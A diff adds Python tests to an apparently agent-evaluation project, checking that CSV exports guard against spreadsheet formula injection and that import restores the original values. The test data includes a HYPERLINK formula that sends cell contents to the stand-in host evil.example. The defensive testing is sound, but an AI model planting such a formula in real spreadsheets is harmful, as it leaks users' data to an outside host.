@@ -201,3 +201,51 @@ def test_the_human_cell_marks_disagreements_and_stays_short():
     errored = MetricResult.errored(METRIC, "boom")  # no verdict to disagree with
     assert disagreements([CaseResult(case_id="c", trace_ids=["c"], sources=["s"], metrics=[errored],
                                      labels=labels)]) == []
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\r=1",
+            "'=1+1", "''-3", "plain, text", "'quoted but harmless"]
+
+
+def test_csv_cells_never_start_a_formula_and_import_takes_the_guard_off(labelled, tmp_path):
+    store, run_id = labelled
+    records = [store.label_record(run_id, HELM_ID, verdict="pass", note=note, labeler=f"-{i}")
+               for i, note in enumerate(FORMULAS)]
+    records.append(store.label_record(run_id, K8S_ID, metric=METRIC, score="0.5", note="=1", labeler="@ana"))
+    store.add_labels(records)
+    first = store.labels(run_id)
+    assert [r.label.note for r in first[:-1]] == FORMULAS  # stored as given
+
+    out = tmp_path / "out.csv"
+    write_labels_file(first, out)
+    with out.open(encoding="utf-8", newline="") as f:  # as written: a CR in a cell stays a CR
+        rows = list(csv.reader(f))
+    header, body = rows[0], rows[1:]
+    for row in body:
+        for name, cell in zip(header, row, strict=True):
+            if name != "score":
+                assert not cell or cell[0] not in "=+-@\t\r", (name, cell)
+    notes = [dict(zip(header, row, strict=True))["note"] for row in body]
+    assert notes == ["'" + FORMULAS[0], "'+1", "'-2", "'@SUM(A1:A9)", "'\tx", "'\r=1", "''=1+1", "'''-3",
+                     "plain, text", "'quoted but harmless", "'=1"]
+    assert [dict(zip(header, row, strict=True))["labeler"] for row in body] == [
+        *(f"'-{i}" for i in range(len(FORMULAS))), "'@ana"]
+    assert dict(zip(header, body[-1], strict=True))["score"] == "0.5"  # a number is not text: no guard
+
+    # Import takes the guard off: the same labels, nothing added or changed.
+    assert [r["note"] for _, r in read_labels_file(out)] == [*FORMULAS, "=1"]
+    import_labels(store, out)
+    assert store.labels(run_id) == first
+    # JSONL is not a spreadsheet: written as is.
+    jsonl = tmp_path / "out.jsonl"
+    write_labels_file(first, jsonl)
+    assert [json.loads(line)["note"] for line in jsonl.read_text("utf-8").splitlines()] == [*FORMULAS, "=1"]
+
+
+def test_the_guard_is_exact_on_its_own():
+    from agentevals.core._csv import guard_cell, unguard_cell
+
+    for text in [*FORMULAS, "", "'", "''", "-0.5", "a=b", " =1"]:
+        assert unguard_cell(guard_cell(text)) == text
+    assert guard_cell("-0.5") == "'-0.5"  # as text; a score is written as a number and never guarded
+    assert guard_cell(" =1") == " =1" and guard_cell("a=b") == "a=b"
